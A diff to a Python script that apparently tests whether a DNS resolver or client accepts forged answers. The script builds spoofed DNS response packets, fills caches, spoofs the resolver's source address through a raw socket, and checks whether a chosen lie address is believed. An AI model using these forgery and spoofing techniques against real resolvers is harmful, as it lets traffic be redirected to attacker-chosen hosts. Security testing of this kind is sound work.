@@ -1,9 +1,11 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: GPL-2.0-only
-"""answers.py WAY NAME [TYPE [CLASS]]: ask the liar, believe whatever comes,
-and connect to port 80 of the address that the name's second label is.
+"""answers.py WAY LIE ADDRESS DOMAIN [TYPE [CLASS]]: ask the liar for the name
+LIE.HEX.DOMAIN, where HEX is ADDRESS, believe whatever comes, and connect to
+port 80 of that address.
 
 Prints heard=yes if that address was in what came, and how connecting ended."""
+import contextlib
 import ipaddress
 import select
 import socket
@@ -14,10 +16,6 @@ import time
 from attack import RESOLVER, RESOLVER6, framed, message, question, tcp, told
 
 IDENT = 0x4e57
-
-
-def target(name):
-    return ipaddress.ip_address(bytes.fromhex(name.split(".")[1]))
 
 
 def unconnected(server, port=0):
@@ -40,15 +38,26 @@ def listen(socks, seconds=3.0, until=b"end"):
     return heard
 
 
+def listen_stream(sock, until, seconds=3.0):
+    """What comes, as far as @until."""
+    heard, more = b"", True
+    sock.settimeout(seconds)
+    with contextlib.suppress(socket.timeout):
+        while more and until not in heard:
+            more = sock.recv(1 << 16)
+            heard += more
+    return heard
+
+
 class Ways:
     """Each returns all that was heard."""
 
-    def __init__(self, name, qtype, qclass):
-        self.name = name
+    def __init__(self, lie, address, domain, qtype, qclass):
+        self.lie, self.address = lie, address
+        self.rest = f"{address.packed.hex()}.{domain}"
         self.patience = 2
-        self.asked = message(question(name, qtype, qclass), ident=IDENT)
-        lie, _, rest = name.partition(".")
-        self.lie, self.rest = lie, rest
+        self.asked = message(question(f"{lie}.{self.rest}", qtype, qclass),
+                             ident=IDENT)
 
     def named(self, lie, ident=IDENT):
         return message(question(f"{lie}.{self.rest}"), ident=ident)
@@ -56,7 +65,7 @@ class Ways:
     def forged(self, lie):
         return (struct.pack("!HHHHHH", IDENT, 0x8180, 1, 1, 0, 0)
                 + self.named(lie)[12:] + b"\xc0\x0c"
-                + struct.pack("!HHIH", 1, 1, 60, 4) + target(self.name).packed)
+                + struct.pack("!HHIH", 1, 1, 60, 4) + self.address.packed)
 
     def udp(self, server=RESOLVER, seconds=3.0):
         sock = unconnected(server)
@@ -79,16 +88,16 @@ class Ways:
 
     def nothing(self):
         """Just connect."""
-        return target(self.name).packed
+        return self.address.packed
 
     def fill(self):
         """fill-TIMES: ask for 64 addresses, each time for others."""
-        sock, first = unconnected(RESOLVER), int(self.rest.split(".")[0], 16)
+        sock, first = unconnected(RESOLVER), int(self.address)
         for i in range(int(self.lie.partition("-")[2])):
             name = f"many-64.{first + 64 * i:08x}." + self.rest.partition(".")[2]
             sock.sendto(message(question(name), ident=i), (RESOLVER, 53))
             listen([sock])
-        return target(self.name).packed
+        return self.address.packed
 
     def corpus(self):
         """LIE-TIMES: each file of the corpus as an answer, in both ways."""
@@ -104,7 +113,7 @@ class Ways:
             sock.recv(1 << 16)
             sock.close()
         print(f"files={heard}")
-        return target(self.name).packed
+        return self.address.packed
 
     def spoof(self):
         """A raw socket lends the resolver's address to a packet that never
@@ -155,7 +164,7 @@ class Ways:
         sock.sendto(self.asked, (RESOLVER, 53))
         sock.close()
         time.sleep(1)
-        return target(self.name).packed
+        return self.address.packed
 
     def twins(self):
         """The answer comes to another socket on the port of the asker."""
@@ -181,19 +190,19 @@ class Ways:
     def stream(self):
         sock = tcp()
         sock.sendall(framed(self.asked))
-        return listen([sock], 0.5)[sock]
+        return listen_stream(sock, self.address.packed)
 
     def stream_next_id(self):
         sock = tcp()
         sock.sendall(framed(self.named("silent", IDENT + 1)))
         sock.sendall(framed(self.asked))
-        return listen([sock], 0.5)[sock]
+        return listen_stream(sock, self.address.packed)
 
     def stream_early(self):
         """The second question follows on its answer."""
         sock = tcp()
         sock.sendall(framed(self.named("early")))
-        heard = listen([sock], 0.5)[sock]
+        heard = listen_stream(sock, self.address.packed)
         sock.sendall(framed(self.named("silent", IDENT + 1)))
         listen([sock], 0.2)
         return heard
@@ -207,10 +216,11 @@ def connect(address, patience):
 
 
 def main():
-    way, name = sys.argv[1:3]
-    ways = Ways(name, *map(int, (sys.argv[3:] + ["1", "1"])[:2]))
+    way, lie, address, domain = sys.argv[1:5]
+    address = ipaddress.ip_address(address)
+    ways = Ways(lie, address, domain,
+                *map(int, (sys.argv[5:] + ["1", "1"])[:2]))
     heard = getattr(ways, way)()
-    address = target(name)
     print("heard=" + ("yes" if address.packed in heard else "no"))
     told(connect, address, ways.patience)
 
